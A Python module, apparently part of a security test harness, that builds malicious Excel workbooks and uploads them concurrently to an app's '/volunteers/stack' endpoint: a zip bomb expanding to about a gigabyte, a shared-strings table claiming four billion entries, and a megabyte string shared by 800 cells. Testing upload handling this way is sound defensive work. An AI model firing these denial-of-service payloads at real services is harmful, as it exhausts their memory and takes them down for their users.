"""Workbooks that are small to send and large to read."""

import zipfile
from functools import partial
from io import BytesIO

from attack.asking import tried, upload
from attack.tally import MARKER, Tally

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_TYPES = f"""<Types xmlns="{_PACKAGE}/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/></Types>"""
_WORKBOOK = f"""<workbook xmlns="{_MAIN}" xmlns:r="{_RELATIONS}">
<sheets><sheet name="{MARKER}" sheetId="1" r:id="rId1"/></sheets></workbook>"""
_FILES = {
    "[Content_Types].xml": _TYPES,
    "_rels/.rels": f"""<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1"
Type="{_RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>""",
    "xl/workbook.xml": _WORKBOOK,
    "xl/_rels/workbook.xml.rels": f"""<Relationships xmlns="{_PACKAGE}/relationships">
<Relationship Id="rId1" Type="{_RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/>
<Relationship Id="rId2" Type="{_RELATIONS}/sharedStrings" Target="sharedStrings.xml"/>
</Relationships>""",
}


def absurd_count(port: int) -> Tally:
    """A table of strings that claims four thousand million entries."""
    strings = f'<sst xmlns="{_MAIN}" uniqueCount="4294967296"><si><t>{MARKER}</t></si></sst>'
    return _tried(port, _workbook(strings, cells=1))


def one_string(port: int) -> Tally:
    """One string of a megabyte that 800 cells share."""
    return _tried(port, _workbook(_strings(MARKER * 120_000), cells=800))


def bomb(port: int) -> Tally:
    """A file of which a few kilobytes become a gigabyte."""
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in _FILES.items():
            archive.writestr(name, content)
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for _ in range(1024):
                sheet.write(b" " * 1024 * 256)
    return _tried(port, packed.getvalue())


def _tried(port: int, workbook: bytes) -> Tally:
    return tried([partial(upload, port, "/volunteers/stack", "list.xlsx", workbook)] * 6, at_once=3)


def _strings(text: str) -> str:
    return f'<sst xmlns="{_MAIN}" uniqueCount="1"><si><t>{text}</t></si></sst>'


def _workbook(strings: str, cells: int) -> bytes:
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, cells + 1)
    )
    sheet = f'<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in _FILES.items():
            archive.writestr(name, content)
        archive.writestr("xl/sharedStrings.xml", strings)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return packed.getvalue()
